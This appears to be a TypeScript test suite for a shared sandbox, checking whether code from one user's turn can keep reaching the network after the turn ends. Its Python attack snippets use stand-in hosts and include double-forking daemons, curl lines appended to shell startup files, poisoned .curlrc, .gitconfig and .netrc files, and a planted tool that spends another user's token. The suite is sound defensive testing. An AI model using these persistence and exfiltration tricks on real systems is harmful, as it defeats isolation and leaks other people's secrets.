import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { until } from '#core/testing/until.ts';
import type { Attack, AttackGroup } from '../../attack.ts';
import { type NetworkArena, newMark } from '../arena.ts';
import { anasToken } from '../rules.ts';
import { tries } from '../tries.ts';
import { holds } from '../world/spellings.ts';

const has = async (arena: NetworkArena, mark: string) =>
  (await arena.seen()).some((one) => JSON.stringify(one).includes(mark));

/** A turn leaves something behind; then, when it is over, another person's turn goes on for a while in the same thread. */
function leaves(
  name: string,
  python: (mark: string) => string,
  next = 'time.sleep(1.5)',
): Attack<NetworkArena> {
  let seen = false;
  return {
    name,
    run: async (arena) => {
      const mark = newMark();
      const thread = `left ${mark}`;
      await arena.attempt(python(mark), { thread });
      await arena.settle();
      await arena.attempt(next, { thread, by: 'ben' });
      seen = await has(arena, mark);
    },
    observed: async () => seen,
  };
}
const loop = (mark: string) => `while True:
  try: get('http://open.test/${mark}')
  except OSError: pass
  time.sleep(0.05)`;
const indented = (text: string) => text.replace(/^/gm, '  ');

/** A process that no turn knows of opens something while a turn runs, and uses it when the turn is over. */
function outlives(name: string, open: string, use: (mark: string) => string): Attack<NetworkArena> {
  let seen = false;
  return {
    name,
    run: async (arena) => {
      const { stage } = arena;
      const mark = newMark();
      const { turnId, sessionId } = await arena.begin(
        `get('http://open.test/')\nwhile not os.path.exists('/workspace/go'): time.sleep(0.05)`,
        { thread: `outlives ${mark}` },
      );
      await until(async () => ((await has(arena, 'open.test')) ? true : null), 'the turn at work');
      const stray = strayIn(
        arena,
        sessionId,
        `${open}\nprint('ready', flush=True)\nsys.stdin.readline()\n${use(mark)}`,
      );
      await stray.ready;
      stage.stray(sessionId, 'touch /workspace/go');
      await stage.ended(turnId);
      await arena.settle();
      stray.process.stdin?.end('now\n');
      await once(stray.process, 'exit');
      seen = await has(arena, mark);
    },
    observed: async () => seen,
  };
}

function strayIn(
  arena: NetworkArena,
  sessionId: string,
  python: string,
): { process: ChildProcess; ready: Promise<unknown> } {
  const name = arena.containerOf(sessionId);
  const child = spawn('docker', [
    'exec',
    '--interactive',
    '--user',
    '70999:60000',
    name,
    'python3',
    '-c',
    `${arena.prelude}\n${python}`,
  ]);
  const ready = Promise.withResolvers<void>();
  child.stdout.setEncoding('utf8').on('data', (text: string) => text.includes('ready') && ready.resolve());
  let said = '';
  child.stderr.setEncoding('utf8').on('data', (text: string) => {
    said += text;
  });
  child.once('exit', () => ready.reject(new Error(`the stray process ended: ${said.slice(-300)}`)));
  return { process: child, ready: ready.promise };
}

const request = (mark: string) => `b'GET http://open.test/${mark} HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n'`;
const within = (what: string) =>
  `try:\n${indented(what)}\nexcept (OSError, ValueError) as error: print(error)`;

/** What a turn leaves behind gets nothing once it is over, neither by itself nor in the next person's turn. */
export const endings: AttackGroup<NetworkArena> = {
  name: 'after the turn',
  harm: 'leak',
  control: tries('a process in the background, while its turn goes on', {
    python: (mark) => `if os.fork() == 0:\n${indented(loop(mark))}\ntime.sleep(1)`,
    success: ({ seen, mark }) => seen.some((one) => JSON.stringify(one).includes(mark)),
  }),
  attacks: [
    leaves('a process in the background', (mark) => `if os.fork() == 0:\n${indented(loop(mark))}`),
    leaves(
      'a daemon',
      (mark) =>
        `if os.fork() == 0:\n  os.setsid()\n  if os.fork(): os._exit(0)\n  for fd in range(3): os.close(fd)\n  os.open('/dev/null', os.O_RDWR); os.dup(0); os.dup(0)\n${indented(loop(mark))}`,
    ),
    leaves(
      'a daemon that ignores every signal',
      (mark) =>
        `import signal\nif os.fork() == 0:\n  os.setsid()\n  for n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n${indented(loop(mark))}`,
    ),
    leaves(
      'a process that is forever another',
      (mark) => `if os.fork() == 0:
  os.setsid()
  last = 0
  while True:
    if os.fork(): os._exit(0)
    if time.time() - last > 0.1:
      last = time.time()
      try: get('http://open.test/${mark}')
      except OSError: pass`,
    ),
    leaves(
      'a stopped process that another wakes',
      (mark) =>
        `import signal\nif os.fork() == 0:\n  os.setsid(); os.kill(os.getpid(), signal.SIGSTOP)\n${indented(loop(mark))}`,
      'subprocess.run(["pkill", "-CONT", "python3"]); time.sleep(1.5)',
    ),
    leaves(
      'a hook of the shell',
      (mark) => plant(`curl -s http://open.test/${mark}`),
      `for shell in ('bash -lic true', 'bash -ic true', 'sh -lc true'): subprocess.run(shell.split(), stdin=subprocess.DEVNULL)`,
    ),
    leaves(
      'settings of curl and git',
      (
        mark,
      ) => `for home in ['/', '/root', '/tmp', *[os.path.join('/home', n) for n in (os.listdir('/home') if os.path.isdir('/home') else [])]]:
  for name, text in (('.curlrc', 'url = http://open.test/${mark}'), ('.gitconfig', '[alias]\\n\\tstatus = !curl -s http://open.test/${mark}'), ('.netrc', 'machine open.test login ${mark} password x')):
    try: open(os.path.join(home, name), 'w').write(text)
    except OSError as error: print(error)`,
      `subprocess.run(['curl', '-sn', 'http://open.test/']); subprocess.run(['git', 'status'])`,
    ),
    outlives(
      'a kept connection',
      'k = knock(); k.sendall(b"GET http://open.test/ HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n"); head(k)',
      (mark) => within(`k.sendall(${request(mark)}); read(k)`),
    ),
    outlives('a tunnel', "s = tls('open.test:443')", (mark) =>
      within(`s.sendall(b'GET /${mark} HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n'); read(s)`),
    ),
    outlives(
      'an unread tunnel',
      "t = tunnel('through.test:443')\ncontext = ssl._create_unverified_context()\ns = context.wrap_socket(t, server_hostname='through.test')",
      (mark) => within(`s.sendall(b'GET /${mark} HTTP/1.1\\r\\nHost: through.test\\r\\n\\r\\n'); read(s)`),
    ),
    outlives(
      'a WebSocket',
      "s = tls('open.test:443'); s.sendall(b'GET / HTTP/1.1\\r\\nHost: open.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n'); head(s)",
      (mark) => within(`s.sendall(b'${mark}'); read(s)`),
    ),
    outlives(
      'a body that is still being sent',
      "k = knock(); k.sendall(b'POST http://open.test/silence HTTP/1.1\\r\\nHost: open.test\\r\\nContent-Length: 1000\\r\\n\\r\\nhalf')",
      (mark) => within(`k.sendall(b'${mark}' + bytes(1000)); read(k)`),
    ),
    outlives('HTTP/2', "s = h2('open.test:443')", (mark) =>
      within(`s.sendall(frame(1, 5, 1, fields(*asks('open.test', '/${mark}')))); read(s)`),
    ),
    outlives('a new connection', '', (mark) => within(`k = knock(); k.sendall(${request(mark)}); read(k)`)),
    planted(),
  ],
};

function plant(command: string): string {
  return `for home in ['/', '/root', '/tmp', '/etc', '/etc/profile.d', *[os.path.join('/home', n) for n in (os.listdir('/home') if os.path.isdir('/home') else [])]]:
  for name in ('.bashrc', '.profile', '.bash_profile', '.bash_login', 'bash.bashrc', 'x.sh', '.env'):
    try: open(os.path.join(home, name), 'a').write(${JSON.stringify(`\n${command}\n`)})
    except OSError as error: print(error)`;
}

/** A tool in the shared workspace, planted by one, run by another, spends the other's secret: its owner is asked first. */
function planted(): Attack<NetworkArena> {
  let seen = false;
  return {
    name: "a tool that spends the next person's secret",
    run: async (arena) => {
      const thread = `planted ${newMark()}`;
      await arena.attempt(
        `open('/workspace/tool', 'w').write('#!/bin/sh\\ncurl -s https://mine.test/\\n'); os.chmod('/workspace/tool', 0o777)`,
        { thread, by: 'ben' },
      );
      await arena.settle();
      await arena.attempt(`subprocess.run(['/workspace/tool'])`, { thread, by: 'ana' });
      seen = (await arena.seen()).some((one) => holds(JSON.stringify(one), anasToken));
    },
    observed: async () => seen,
  };
}
